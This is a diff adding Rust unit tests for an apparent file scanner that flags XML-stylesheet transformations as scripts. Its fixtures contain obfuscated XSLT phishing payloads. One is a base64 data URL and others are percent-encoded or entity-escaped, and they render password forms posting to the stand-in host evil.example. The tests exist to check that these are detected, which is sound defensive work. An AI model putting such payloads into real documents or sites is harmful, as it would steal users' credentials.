@@ -64,6 +64,63 @@ fn what_a_viewer_loads_is_a_link() {
     check(xml, "a.xml", &expect![[r#"["t"] ["http://evil.example/x.xsl"] [] []"#]]);
 }
 
+/// Browsers run a transformation that comes with the text; invoices and feeds name one beside them.
+#[test]
+fn a_transformation_that_comes_with_the_text_is_a_script() {
+    let coded = "PHhzbDpzdHlsZXNoZWV0IHZlcnNpb249IjEuMCIgeG1sbnM6eHNsPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L1hTTC9UcmFuc2Zvcm0iPjx4c2w6b3V0cHV0IG1l\
+        dGhvZD0iaHRtbCIvPjx4c2w6dGVtcGxhdGUgbWF0Y2g9Ii8iPjxodG1sPjxib2R5Pjxmb3JtIGFjdGlvbj0iaHR0cDovL2V2aWwuZXhhbXBsZS9sb2dpbiIgbWV0aG9kPSJw\
+        b3N0Ij48aW5wdXQgdHlwZT0icGFzc3dvcmQiIG5hbWU9InAiLz48aW5wdXQgdHlwZT0ic3VibWl0Ii8+PC9mb3JtPjwvYm9keT48L2h0bWw+PC94c2w6dGVtcGxhdGU+PC94\
+        c2w6c3R5bGVzaGVldD4=";
+    let percent = "%3Cxsl:stylesheet%3E%3Cinput%20type=%22password%22/%3E%3C/xsl:stylesheet%3E";
+    let instructions = [
+        format!("<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml;base64,{coded}\"?>"),
+        format!("<?xml-stylesheet href = 'data:text/xml&#59;base64,{coded}' type = 'application/xslt+xml; a=b'?>"),
+        format!("<?xml version='1.0'?><?xml-stylesheet type='text/xml' href='data:text/xml,{percent}'?>"),
+        format!(
+            "{}<?xml-stylesheet type='text/xsl' href='data:,{percent}'?>",
+            "<?xml-stylesheet href='a.css'?>".repeat(20)
+        ),
+    ];
+    for (name, body) in [
+        ("a.xml", "<d/>"),
+        ("a.rss", "<rss version='2.0'><channel/></rss>"),
+        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>"),
+        ("a.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><body>Hi</body></html>"),
+    ] {
+        for instruction in &instructions {
+            let content = open(format!("{instruction}{body}").as_bytes(), name);
+            assert!(content.items[0].marks.contains(&"script".to_owned()), "{name} {instruction} {content:?}");
+            let sheets: Vec<_> = content.items.iter().filter(|item| item.place.starts_with("1/sheet:")).collect();
+            assert!(sheets.len() == 1 && sheets[0].marks.contains(&"password_field".to_owned()), "{name} {content:?}");
+        }
+        for honest in
+            ["type='text/xsl' href='a.xsl'", "type='text/css' href='data:text/css,a{}'", "href='http://a.example/b'"]
+        {
+            let content = open(format!("<?xml-stylesheet {honest}?>{body}").as_bytes(), name);
+            let item = &content.items[0];
+            assert!(
+                !item.marks.contains(&"script".to_owned()) && !item.links.is_empty(),
+                "{name} {honest} {content:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_transformation_within_the_text_is_a_script() {
+    let xml = |href: &str, vocabulary: &str| {
+        format!(
+            "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{href}'?><d><x:stylesheet id='s' version='1.0' xmlns:x='{vocabulary}'>\
+             <x:template match='/'><x:element name=\"scr{{'ipt'}}\">1</x:element><form action='http://evil.example/'/></x:template></x:stylesheet></d>"
+        )
+    };
+    let marks = |xml: &str| open(xml.as_bytes(), "a.xml").items.remove(0).marks;
+    let found = marks(&xml("#s", "http://www.w3.org/1999/XSL/&#x54;ransform"));
+    assert!(found.contains(&"script".to_owned()) && found.contains(&"form".to_owned()), "{found:?}");
+    assert!(marks(&xml("#s", "http://a.example/")).is_empty());
+    assert!(marks(&xml("a.xsl", "http://www.w3.org/1999/XSL/Transform")).is_empty());
+}
+
 #[test]
 fn well_known_definitions_are_none_of_its_own() {
     for (head, expected) in [
